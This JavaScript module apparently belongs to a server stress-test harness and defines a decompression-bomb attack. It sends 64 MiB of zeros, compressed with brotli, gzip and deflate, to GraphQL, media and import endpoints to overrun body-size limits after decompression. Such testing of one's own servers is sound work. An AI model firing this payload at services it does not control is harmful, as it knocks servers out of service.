import { brotliCompressSync, constants, deflateSync, gzipSync } from 'node:zlib'

/** Compressed bodies that unpack to many times the limit of a body. @type {import('./Attack.mjs').Attack} */
export const inflateBodies = {
  name: 'compressed bodies',
  clients: 4,
  pauseMs: 250,
  async prepare({ send }) {
    const zeros = Buffer.alloc(64 * 1024 * 1024)
    const bodies = {
      br: brotliCompressSync(zeros, { params: { [constants.BROTLI_PARAM_QUALITY]: 5 } }),
      gzip: gzipSync(zeros),
      deflate: deflateSync(zeros),
    }
    const encodings = /** @type {(keyof typeof bodies)[]} */ (Object.keys(bodies))
    const paths = ['/graphql', '/graphql/stream', '/media', '/import']
    return (client, turn) => {
      const encoding = encodings[turn % encodings.length] ?? 'br'
      return send(paths[client % paths.length] ?? '/graphql', client, {
        headers: { 'content-type': 'application/json', 'content-encoding': encoding },
        body: bodies[encoding],
      })
    }
  },
}
